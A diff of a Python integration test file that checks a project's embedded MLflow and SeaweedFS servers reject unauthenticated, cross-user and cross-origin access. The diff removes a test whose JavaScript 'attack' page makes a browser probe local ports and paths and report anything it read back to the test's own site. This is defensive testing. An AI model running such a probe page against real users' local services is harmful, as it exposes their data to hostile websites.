@@ -1,94 +1,28 @@
-"""Only their owner can use the embedded servers: no other local user, no page in the owner's browser."""
+"""Only their owner can use the embedded servers: requests without a password, other local users, files."""
 
 import base64
 import contextlib
-import http.client
 import json
 import os
-import shutil
-import signal
 import socket
 import ssl
 import stat
 import subprocess
 import sys
-import threading
-import time
-from collections.abc import Callable, Iterator, Mapping
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from collections.abc import Mapping
 from pathlib import Path
-from urllib.parse import quote, urlsplit
 
 import pytest
-import websocket
-from mlflow import MlflowClient
 
 from llava_av.services.state import Credentials, StateLock, ensure_credentials
 from llava_av.storage import ObjectStore, StoreError
 from llava_av.storage.sts import session_keys
+from tests.interface_requests import CONTENT, CREATE, KEY, PATHS, SEARCH, TIMEOUT_S, ask
 
 pytestmark = pytest.mark.integration
 
-KEY = "checkpoints/victim/step-00000001/manifest.json"
-TIMEOUT_S, DEADLINE_S = 10, 180
-BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
-# What the servers' own interfaces read, write and delete with, and an object of the bucket.
-SEARCH = "/ajax-api/2.0/mlflow/experiments/search?max_results=5"
-CREATE = "/ajax-api/2.0/mlflow/experiments/create"
-PATHS = (
-    "/",
-    "/buckets/",
-    f"/buckets/llava-av/{KEY}",
-    f"/llava-av/{KEY}",
-    "/dir/assign",
-    "/cluster/status",
-    "/col/delete?collection=llava-av",
-    "/status",
-    SEARCH,
-    CREATE,
-    "/api/2.0/mlflow-artifacts/artifacts?path=",
-)
 HTTP2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
 NOBODY = 65534
-
-
-@pytest.fixture
-def ports(
-    mlflow_environment: Mapping[str, str], mlflow_state: Path, monkeypatch: pytest.MonkeyPatch
-) -> dict[str, int]:
-    """Return the port of each interface by name; the bucket holds one object with the text `whole`."""
-    for name, value in mlflow_environment.items():
-        monkeypatch.setenv(name, value)
-    ObjectStore.from_env().put_bytes(KEY, b"whole")
-    found: dict[str, int] = json.loads((mlflow_state / "seaweedfs" / "ports.json").read_text())
-    return {**found, "mlflow": urlsplit(mlflow_environment["MLFLOW_TRACKING_URI"]).port or 0}
-
-
-@pytest.fixture
-def unharmed(ports: dict[str, int]) -> Iterator[None]:
-    """After the test the object and MLflow's experiments are what they were."""
-
-    def experiments() -> set[str]:
-        return {found.name for found in MlflowClient().search_experiments()}
-
-    before = experiments()
-    yield
-    assert ObjectStore.from_env().get_bytes(KEY) == b"whole"
-    assert experiments() == before
-
-
-def ask(
-    port: int, method: str, path: str, headers: Mapping[str, str] | None = None
-) -> tuple[int, bytes, dict[str, str]]:
-    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=TIMEOUT_S)
-    try:
-        connection.request(method, path, b"x" if method in ("PUT", "POST") else None, dict(headers or {}))
-        answer = connection.getresponse()
-        return answer.status, answer.read(), dict(answer.getheaders())
-    except (OSError, http.client.HTTPException):
-        return 0, b"", {}
-    finally:
-        connection.close()
 
 
 @pytest.mark.usefixtures("unharmed")
@@ -98,7 +32,7 @@ def test_no_port_reads_writes_or_deletes_without_a_password(ports: dict[str, int
             for path in PATHS:
                 status, body, _ = ask(port, method, path, {"Origin": "https://elsewhere.example"})
                 assert status >= 400 or not body, (name, method, path, status, body[:200])
-                assert b"whole" not in body, (name, method, path)
+                assert CONTENT not in body, (name, method, path)
 
 
 def test_between_its_parts_seaweedfs_speaks_to_itself_alone(ports: dict[str, int]) -> None:
@@ -272,131 +206,3 @@ def test_keys_that_this_version_does_not_know_are_ignored(tmp_path: Path) -> Non
     assert (found.access_key, found.secret_key) == ("a", "b")
     path.write_text(json.dumps({**json.loads(path.read_text()), "later": "c"}))
     assert ensure_credentials(tmp_path) == found
-
-
-# Tries everything that a page can, and tells the server of the page what it could read.
-PAGE = """<script>
-async function attack() {
-  const read = [];
-  for (const port of PORTS) for (const path of PATHS) for (const method of ["GET", "POST", "PUT", "DELETE"])
-    for (const mode of ["cors", "no-cors"]) for (const credentials of ["include", "omit"]) {
-      try {
-        const body = method === "GET" ? undefined : "x";
-        const answer = await fetch(`http://127.0.0.1:${port}${path}`, {method, mode, credentials, body});
-        const text = await answer.text();
-        if (answer.ok && text) read.push(`${method} ${port} ${path} ${text.slice(0, 80)}`);
-      } catch (refused) {}
-    }
-  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
-}
-attack();
-</script>"""
-
-
-class _Site:
-    """A web server with one page, and what the page told it."""
-
-    def __init__(self, page: str) -> None:
-        self.told: list[str] = []
-        self.done = threading.Event()
-        site = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                self.send_response(200)
-                self.send_header("Content-Type", "text/html")
-                self.end_headers()
-                self.wfile.write(page.encode())
-
-            def do_POST(self) -> None:
-                site.told = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-                self.send_response(204)
-                self.end_headers()
-                site.done.set()
-
-            def log_message(self, format: str, *arguments: object) -> None:
-                pass
-
-        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-
-
-@contextlib.contextmanager
-def site(page: str) -> Iterator[_Site]:
-    found = _Site(page)
-    thread = threading.Thread(target=found.server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        yield found
-    finally:
-        found.server.shutdown()
-        found.server.server_close()
-        thread.join()
-
-
-@contextlib.contextmanager
-def chromium(folder: Path, *addresses: str) -> Iterator[int]:
-    """Run a browser on some pages; its debugger's port."""
-    assert BROWSER is not None
-    options = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={folder}"]
-    process = subprocess.Popen(
-        [BROWSER, *options, "--remote-debugging-port=0", *addresses],
-        stdout=subprocess.DEVNULL,
-        stderr=subprocess.DEVNULL,
-        start_new_session=True,
-    )
-    try:
-        port_file = folder / "DevToolsActivePort"
-        wait_until(lambda: port_file.exists() and "\n" in port_file.read_text())
-        yield int(port_file.read_text().splitlines()[0])
-    finally:
-        os.killpg(process.pid, signal.SIGKILL)
-        process.wait()
-
-
-def wait_until(condition: Callable[[], bool]) -> None:
-    deadline = time.monotonic() + DEADLINE_S
-    while not condition():
-        assert time.monotonic() < deadline, "deadline passed"
-        time.sleep(0.1)
-
-
-@pytest.mark.usefixtures("unharmed")
-@pytest.mark.skipif(BROWSER is None, reason="no Chromium here (Debian's package: chromium)")
-def test_a_page_in_the_owners_browser_reads_and_changes_nothing(
-    ports: dict[str, int], tmp_path: Path
-) -> None:
-    page = PAGE.replace("PORTS", json.dumps(list(ports.values()))).replace("PATHS", json.dumps(PATHS))
-    with site(page) as evil, chromium(tmp_path, f"http://localhost:{evil.server.server_port}/"):
-        assert evil.done.wait(DEADLINE_S)
-    assert evil.told == []
-
-
-@pytest.mark.skipif(BROWSER is None, reason="no Chromium here (Debian's package: chromium)")
-def test_mlflows_pages_open_for_their_owner(ports: dict[str, int], tmp_path: Path) -> None:
-    user, password = os.environ["MLFLOW_TRACKING_USERNAME"], os.environ["MLFLOW_TRACKING_PASSWORD"]
-    host = f"127.0.0.1:{ports['mlflow']}"
-    with chromium(tmp_path) as debugged:
-        # Stands for the dialog in which a person gives user and password.
-        logged_in = open_tab(debugged, f"http://{user}:{password}@{host}{SEARCH}")
-        wait_until(lambda: "Default" in shown(logged_in))
-        pages = open_tab(debugged, f"http://{host}/#/experiments")
-        # A name that only the server's answers have.
-        wait_until(lambda: "Default" in shown(pages))
-
-
-def open_tab(debugged: int, url: str) -> str:
-    """Open a tab of a debugged browser and return the address of its debugger."""
-    status, body, _ = ask(debugged, "PUT", f"/json/new?{quote(url, safe='')}")
-    assert status == 200
-    address: str = json.loads(body)["webSocketDebuggerUrl"]
-    return address
-
-
-def shown(debugger: str) -> str:
-    """Return the text that a tab shows now."""
-    with contextlib.closing(
-        websocket.create_connection(debugger, timeout=TIMEOUT_S, suppress_origin=True)
-    ) as tab:
-        asked = {"expression": "document.body ? document.body.innerText : ''"}
-        tab.send(json.dumps({"id": 1, "method": "Runtime.evaluate", "params": asked}))
-        return str(json.loads(tab.recv())["result"]["result"]["value"])
